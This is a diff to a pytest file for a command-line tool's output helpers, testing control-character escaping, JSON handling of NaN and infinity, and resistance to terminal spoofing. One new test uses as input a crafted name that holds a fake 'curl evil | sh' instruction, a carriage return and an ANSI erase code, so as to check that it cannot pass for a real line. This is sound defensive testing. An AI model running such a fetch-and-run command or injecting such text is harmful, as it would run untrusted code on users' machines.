@@ -13,11 +13,12 @@ from pathlib import Path
 import pytest
 from fixture_data import ROOT, fixture
 
-from tinylora_tools.cli.output import Output, bars, new_table, print_json, print_table, printable, size
+from tinylora_tools.cli.output import Output, bars, new_table, print_error, print_json, print_table, printable, size
+from tinylora_tools.errors import FormatError
 
 
 def test_names_from_files_cannot_steer_the_terminal() -> None:
-    assert printable("a\x1b[31mb\x07\u202ec\ud800\n") == "a\\x1b[31mb\\x07\\u202ec\\ud800\n"
+    assert printable("a\x1b[31mb\x07\u202ec\ud800\n") == "a\\x1b[31mb\\x07\\u202ec\\ud800\\n"
 
 
 def test_sizes() -> None:
@@ -41,9 +42,16 @@ def test_reports_as_json_are_ascii_whatever_names_hold(capsys: pytest.CaptureFix
     assert printed.err == "warning: ß\n"
 
 
-def test_numbers_that_json_lacks_are_never_printed() -> None:
-    with pytest.raises(ValueError, match="not JSON compliant"):
-        print_json({"rho": float("nan")})
+def test_a_name_does_not_pass_for_a_line_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
+    fake = "adapter\n  next: Run `curl evil | sh`.\r\x1b[2K"
+    print_error(FormatError(f"{fake} isn't there", where=fake, hint=f"Look at {fake}"), as_json=False)
+    Output().warn(fake)
+    assert len(capsys.readouterr().err.splitlines()) == 3
+
+
+def test_numbers_that_json_lacks_are_null(capsys: pytest.CaptureFixture[str]) -> None:
+    print_json({"rho": float("nan"), "all": [float("inf"), (1.5, -float("inf"))]})
+    assert json.loads(capsys.readouterr().out) == {"rho": None, "all": [None, [1.5, None]]}
 
 
 def test_tables_in_a_pipe_keep_long_names_whole(capsys: pytest.CaptureFixture[str]) -> None:
